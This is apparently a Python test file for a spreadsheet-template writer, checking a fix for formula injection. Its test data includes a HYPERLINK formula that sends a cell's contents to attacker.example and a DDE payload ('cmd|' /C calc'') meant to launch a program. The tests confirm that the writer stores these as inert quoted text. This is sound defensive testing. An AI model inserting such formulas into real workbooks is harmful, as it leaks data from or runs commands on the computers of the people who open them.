"""Finding 5: formula injection into the template departments open.

On main the template's title went through `merge_range(…, title)`, which writes with
`write()`: a region such as `=HYPERLINK("http://…","巴中市")&…` from a sidecar became a live
formula in A1. Now every text is written with `write_string`, and a text beginning with
`=`, `+`, `-`, `@` (tab, CR) also carries Excel's quote prefix, so it stays text even when
someone edits the cell. The warehouse and Parquet keep values verbatim (README "Connect a
BI tool" says why and what a BI user should do).
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl

from gwr.ingest import read_spreadsheets
from gwr.inputs import discover
from gwr.sheets import TemplateTarget, read_sheet, write_template

EVIL_REGION = '=HYPERLINK("http://attacker.example/?leak="&A3,"巴中市")&"'
HOSTILE = ["=SUM(1,2)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1"]


def _formulas(path: Path) -> list[str]:
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    return re.findall(r"<f>(.*?)</f>", xml)


def test_a_hostile_region_in_the_title_is_text_not_a_formula(tmp_path: Path) -> None:
    """Red on main: A1 held the formula HYPERLINK(…)."""
    path = write_template(
        tmp_path / "t.xlsx",
        "=1+1",
        [TemplateTarget("城镇新增就业", "万人", 2.8, "count")],
        region=EVIL_REGION,
        year=2024,
    )
    assert _formulas(path) == []
    ws = openpyxl.load_workbook(path)["完成情况"]
    a1 = ws["A1"]
    assert a1.data_type == "s"
    assert a1.value == f"{EVIL_REGION}2024年目标任务完成情况表"
    assert a1.quotePrefix is True
    assert ws["A2"].value == "填报单位：=1+1"


def test_indicator_names_that_look_like_formulas_are_quoted_text_and_read_back(
    tmp_path: Path,
) -> None:
    """Red on main: no quote prefix, so editing such a cell in Excel made it a formula."""
    targets = [TemplateTarget(name, "个", 10.0, "count") for name in HOSTILE]
    path = write_template(tmp_path / "t.xlsx", "市统计局", targets, region="巴中市", year=2024)
    assert _formulas(path) == []
    ws = openpyxl.load_workbook(path)["完成情况"]
    cells = [ws.cell(row=4 + i, column=2) for i in range(len(HOSTILE))]
    assert [c.value for c in cells] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert ws["A1"].quotePrefix is False  # a plain title needs no quote prefix

    wb = openpyxl.load_workbook(path)
    ws = wb["完成情况"]
    ws["F2"] = "2024年1-6月"
    for i in range(len(HOSTILE)):
        ws.cell(row=4 + i, column=5, value=5)
    filled = tmp_path / "filled.xlsx"
    wb.save(filled)
    assert sorted(r.indicator for r in read_sheet(filled).records) == sorted(
        h.strip() for h in HOSTILE
    )


def test_the_warehouse_keeps_values_verbatim_and_negative_numbers_intact(
    tmp_path: Path,
) -> None:
    """Policy pin (not a fault on main): text is kept as sent, for fidelity; a leading
    `-` of a number is a sign, never escaped, and the value stays a number."""
    folder = tmp_path / "spreadsheets" / "巴中市"
    folder.mkdir(parents=True)
    (folder / "市统计局_2024年1-6月.csv").write_text(
        "指标,单位,完成值\n=HYPERLINK(\"http://x\"),亿元,-3.5\n@居民消费价格,%,-0.4\n",
        encoding="utf-8",
    )
    rows = read_spreadsheets(discover(tmp_path), None).rows
    assert list(rows["indicator_text"]) == ['=HYPERLINK("http://x")', "@居民消费价格"]
    assert list(rows["value"]) == [-3.5, -0.4]
